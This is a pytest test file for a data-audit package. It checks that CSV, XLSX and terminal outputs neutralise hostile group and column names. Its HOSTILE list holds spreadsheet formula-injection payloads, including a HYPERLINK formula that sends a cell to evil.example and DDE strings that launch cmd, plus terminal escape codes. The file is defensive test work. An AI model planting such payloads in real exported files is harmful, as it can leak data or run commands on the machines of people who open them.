"""Files that are handed on, with names made to hurt: no cell of any of them is a formula, and no name is lost."""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
from collections.abc import Iterable
from contextlib import suppress
from pathlib import Path

import pytest

import fourfold as ff
from fourfold import cli
from fourfold.data import csv_line, inert, without_marks, write_rows
from fourfold.questions import DataFile
from fourfold.workers import WorkItem
from fourfold.workers.work import answer
from fourfold.writers import to_csv, to_xlsx, write_findings, write_verdicts

HOSTILE = [
    '=0+HYPERLINK("http://evil.example/"&A1)', "=1+1", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
    "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "＝1+1", "＋1+1", "－1-x", "＠SUM(1)", "\tshown", "\rshown", "a\rb", "a;=1+1",
    "'=1+1", "'shown", "-0.5", "+1", "-", "\x1b[31mred\x07", "a\nb", 'with "quotes", and a comma', "\N{BELL}\x9b31m",
]  # fmt: skip


def is_live(text: str) -> bool:
    """Tell by other means whether a spreadsheet would compute a text: what it begins with once blanks are gone."""
    if text in ("-", ""):
        return False
    try:
        float(text)
    except ValueError:
        pieces = re.split("[;\t]", text.lstrip())
        return text[0] in "\t\r" or any(piece.lstrip()[:1] in tuple("=+-@＝＋－＠") for piece in pieces)
    return False


def cells(text: str, delimiter: str = ",") -> list[list[str]]:
    found = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=delimiter))
    assert len({len(row) for row in found}) == 1
    return found


def check(rows: Iterable[Iterable[str]], names: Iterable[str]) -> None:
    """Check that nothing is live, and that every name is there."""
    texts = {cell for row in rows for cell in row}
    assert [text for text in texts if is_live(text)] == []
    assert {name for name in names if name not in {without_marks(text) for text in texts}} == set()


def run(*arguments: str) -> None:
    with pytest.raises(SystemExit) as stopped:
        cli.main(arguments)
    assert stopped.value.code in (0, 1)


def asked(item: WorkItem) -> bytes:
    pieces = list(answer(item, home=os.getcwd()))
    assert {piece.status for piece in pieces} == {200}, pieces[0].body
    return b"".join(piece.body for piece in pieces)


@pytest.fixture
def table(tmp_path: Path) -> Path:
    """Write predictions of groups with hostile names, in a column with a hostile name."""
    path = tmp_path / "data.csv"
    rows = [(truth, truth, name) for name in HOSTILE for truth in (0, 1)]
    with path.open("w", newline="", encoding="utf-8") as file:
        csv.writer(file).writerows([("y", "p", "=1+1"), *rows])
    return path


FIELDS = {"truth": "y", "prediction": "p", "by": ["=1+1"], "metric": ["recall"]}
AUDIT = ("--truth", "y", "--prediction", "p", "--by", "=1+1", "--metric", "recall")


def audit() -> ff.Audit:
    tables = {name: {"tp": 8, "fn": 2, "fp": 3, "tn": 7} for name in HOSTILE}
    return ff.audit_tables(tables, metrics=["recall"])


def test_rows_of_python() -> None:
    check(cells(to_csv(audit())), HOSTILE)


def test_a_workbook() -> None:
    openpyxl = pytest.importorskip("openpyxl")

    class Renamed:
        def rows(self) -> list[dict[str, object]]:
            return [dict.fromkeys(HOSTILE, row) for row in ("=1+1", -0.5)]

    for result in (audit(), Renamed()):
        sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(result))).active
        found = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert {cell.data_type for cell in found} <= {"s", "n"}
        # Also one that is typed anew stays a text.
        assert all(cell.quotePrefix for cell in found if isinstance(cell.value, str) and is_live(cell.value))
        texts = {cell.value for cell in found}
        assert {"=1+1", "'=1+1", HOSTILE[0], "－1-x"} <= texts
    assert -0.5 in texts


def test_the_command_line(table: Path, capsys: pytest.CaptureFixture[str]) -> None:
    output = table.parent / "out.csv"
    run("audit", str(table), *AUDIT, "--csv", "-o", str(output))
    printed = capsys.readouterr().out
    written = output.read_bytes().decode()
    names = {without_marks(cell) for row in cells(written) for cell in row}
    assert {f"=1+1={name}" for name in HOSTILE if name.strip() == name and "\r" not in name} - names == set()
    for text in (written, printed):
        check(cells(text), [])


@pytest.mark.parametrize("output", ["rows", "xlsx"])
def test_files_of_the_page(table: Path, output: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(table.parent)
    body = asked(WorkItem("audit", FIELDS, [DataFile("data.csv", "data.csv")], str(table.parent), output))  # type: ignore[arg-type]
    if output == "rows":
        check(cells(body.decode()), [f"=1+1={HOSTILE[0]}"])
        return
    sheet = pytest.importorskip("openpyxl").load_workbook(io.BytesIO(body)).active
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n"}


@pytest.fixture
def review(tmp_path: Path) -> Path:
    path = tmp_path / "review.csv"
    rows = [("0.85", "40", "60", name, "-0.5") for name in HOSTILE]
    with path.open("w", newline="", encoding="utf-8") as file:
        csv.writer(file).writerows([("accuracy", "positives", "negatives", "=cmd|x", "@1"), *rows])
    return path


def test_a_review(review: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(review.parent)
    run("recover", "--table", "review.csv", "-o", "verdicts.csv")
    written = (review.parent / "verdicts.csv").read_bytes()
    check(cells(written.decode()), ["=cmd|x", "-0.5", HOSTILE[0], "@SUM(1+1)"])
    streamed = asked(WorkItem("review", {}, [DataFile("review.csv", "review.csv")], str(review.parent), "csv"))
    assert streamed == written


@pytest.mark.parametrize("ending", ["csv", "tsv", "xlsx"])
def test_a_sheet_with_verdicts(tmp_path: Path, ending: str) -> None:
    source, output = tmp_path / "sheet.csv", tmp_path / f"out.{ending}"
    names = [name for name in HOSTILE if "\r" not in name and "\n" not in name]
    with source.open("w", newline="", encoding="utf-8") as file:
        csv.writer(file).writerows(
            [("study", "N", "No. pos", "Accuracy", "=1+1"), *((name, 100, 40, "0.8555", "") for name in names)]
        )
    result = write_verdicts(source, output)
    assert "=1+1" in {column.head for column in result.columns}
    if ending == "xlsx":
        openpyxl = pytest.importorskip("openpyxl")
        found = [cell for sheet in openpyxl.load_workbook(output) for row in sheet.iter_rows() for cell in row]
        assert {cell.data_type for cell in found} <= {"s", "n"}
    else:
        # The rows of the file are cut at its own delimiter.
        check(cells(output.read_text(encoding="utf-8")), ["=1+1", "@SUM(1+1)", "-0.5"])


def test_findings_of_documents(tmp_path: Path) -> None:
    document = tmp_path / "=1+1.md"
    document.write_text("| =1+1 | N | accuracy |\n|---|---|---|\n| @SUM(1) | 100 | 0.8555 |\n")
    write_findings(tmp_path / "out.csv", [document])
    check(cells((tmp_path / "out.csv").read_text(encoding="utf-8")), [])


def test_numbers_stay_numbers(tmp_path: Path) -> None:
    write_rows(tmp_path / "out.csv", [{"=1": -0.5, "b": -3, "c": float("-inf"), "d": "-1,5", "e": None, "f": "+3 %"}])
    assert (tmp_path / "out.csv").read_bytes() == b"'=1,b,c,d,e,f\r\n-0.5,-3,'-inf,\"-1,5\",,+3 %\r\n"


@pytest.mark.parametrize("end", ["\n", "\r\n"])
def test_one_line_holds_what_it_was_given(end: str) -> None:
    line = csv_line(HOSTILE, end=end)
    assert [without_marks(cell) for cell in next(csv.reader(io.StringIO(line, newline="")))] == HOSTILE
    assert [cell for cell in HOSTILE if is_live(inert(cell))] == []


@pytest.mark.parametrize("form", ["--csv", "--json"])
def test_nothing_steers_a_terminal(table: Path, form: str) -> None:
    # A terminal ends its lines with a return as well.
    shown = on_a_terminal("audit", str(table), *AUDIT, form).replace("\r\n", "\n")
    assert "31mred" in shown
    assert not set(shown) & {chr(code) for code in (*range(9), *range(11, 32), *range(127, 160))}


def test_a_terminal_is_no_file(table: Path) -> None:
    shown = on_a_terminal("audit", str(table), *AUDIT, "-o", "/dev/stdout")
    assert shown.startswith("output: is a terminal, got '/dev/stdout'. Hint: ")


def on_a_terminal(*arguments: str) -> str:
    """Return what a terminal is sent by the command line."""
    if not hasattr(os, "openpty"):
        pytest.skip("there are no terminals")
    terminal, theirs = os.openpty()
    call = [sys.executable, "-m", "fourfold", *arguments]
    with subprocess.Popen(call, stdin=theirs, stdout=theirs, stderr=theirs):
        os.close(theirs)
        found = b""
        with suppress(OSError):  # this is how it says that there is no more
            while piece := os.read(terminal, 1 << 16):
                found += piece
    os.close(terminal)
    return found.decode()
